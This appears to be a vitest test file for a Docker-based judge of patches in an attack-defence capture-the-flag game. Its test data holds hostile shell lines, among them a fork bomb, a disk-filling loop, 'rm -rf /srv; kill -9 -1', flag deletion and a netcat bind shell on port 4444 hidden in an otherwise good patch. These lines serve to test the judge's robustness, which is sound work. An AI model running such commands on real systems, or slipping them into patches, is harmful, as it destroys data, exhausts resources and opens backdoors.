import { existsSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { plotOf } from '../driver/docker/testing/plots.ts'
import { failedStep } from '../judging/index.ts'
import { goodPatch, openReadable } from './testing/readable.ts'

const socketPath = process.env['DOCKER_TEST_SOCKET'] ?? ''
const script = (text: string) => ({ 'update.sh': `#!/bin/sh\n${text}\n` })
const good = goodPatch['update.sh'].slice('#!/bin/sh\n'.length)
const withRead = (read: string) => ({ ...goodPatch, 'read.new': `#!/bin/sh\n${read}\n` })
const page = `printf 'Content-Type: text/plain\\r\\n\\r\\n'`

/** Patches of strangers, with the step that each fails at and what it finds there; null: it defends. */
const patches: readonly (readonly [what: string, files: Record<string, string>, step: string | null, results: readonly string[]])[] = [
  ['holds', goodPatch, null, []],
  ['does nothing', script('exit 0'), 'exploit', ['exploited']],
  ['has no script', { 'fix.sh': 'exit 0' }, 'apply', ['no_script']],
  ['ends with an error', script('echo no >&2; exit 3'), 'apply', ['exit']],
  ['never ends', script('trap "" TERM; while :; do sleep 1; done'), 'apply', ['late']],
  ['forks without end', script('f() { f | f & }; f; sleep 60'), 'apply', ['late', 'exit', 'ended']],
  ['prints without end', script('yes hostile'), 'apply', ['late']],
  [
    'fills the disk',
    script('while :; do dd if=/dev/zero of=/opt/full.$(date +%s) bs=1048576 count=64 2>/dev/null; done'),
    'apply',
    ['disk'],
  ],
  ['kills the service for good', script('rm -rf /srv; touch /srv; kill -9 -1'), 'restart', ['ended', 'flag_gone']],
  ['takes the function away', { ...goodPatch, 'read.new': `#!/bin/sh\n${page}; echo gone\n` }, 'functions', ['mumble']],
  ['takes the service away', script('rm -rf /srv/cgi-bin/read; echo > /srv/cgi-bin/read'), 'functions', ['mumble', 'down']],
  ['hides the flag', script('rm -f /flag; mkdir /flag'), 'exploit', ['flag_gone']],
  // It puts itself before the service at each start: the flag is not the service's to remove.
  ['removes the flag when asked', withRead(`${page}; rm -f /flag; cat "/srv/pages/\${QUERY_STRING#f=}"`), 'exploit', ['flag_gone']],
  ['opens a way in for others', { ...goodPatch, ...script(`${good}nc -ll -p 4444 -e /bin/sh > /dev/null 2>&1 &`) }, null, []],
  [
    'is up only every other time',
    withRead(
      `n=$(cat /tmp/n 2>/dev/null || echo 0); echo $((n + 1)) > /tmp/n; [ $((n % 2)) = 1 ] && exit 1\n${goodPatch['read.new'].slice(10)}`,
    ),
    'functions',
    ['down', 'mumble'],
  ],
]

describe.skipIf(!existsSync(socketPath))('patches of strangers at an engine', () => {
  let range: Awaited<ReturnType<typeof openReadable>>
  beforeAll(async () => {
    range = await openReadable(socketPath, plotOf('judging-hostile'))
  }, 120_000)
  afterAll(() => range.stop(), 60_000)

  it.each(patches)(
    'one that %s',
    async (what, files, step, results) => {
      await range.order(what, files)
      const line = await range.over(what, 170_000)
      const failed = failedStep(line.steps)
      expect([line.outcome, line.broken, failed?.kind ?? null]).toEqual(['done', [], step])
      expect(failed === null || results.includes(failed.result ?? '')).toBe(true)
      expect(JSON.stringify(line)).not.toContain('flag{')
      await expect.poll(range.boxes, { timeout: 30_000 }).toBe(0)
    },
    240_000,
  )

  it('a judge that stops in the middle gives its box back, and the patch is judged again', async () => {
    await range.order('again', goodPatch)
    await expect.poll(async () => (await range.lineOf('again')).steps.length, { timeout: 60_000 }).toBeGreaterThan(3)
    await range.restartJudge()
    const line = await range.over('again', 120_000)
    expect([line.outcome, line.broken, failedStep(line.steps)]).toEqual(['done', [], null])
    expect(line.attempt).toBeGreaterThan(1)
    await expect.poll(range.boxes, { timeout: 30_000 }).toBe(0)
  }, 240_000)
})
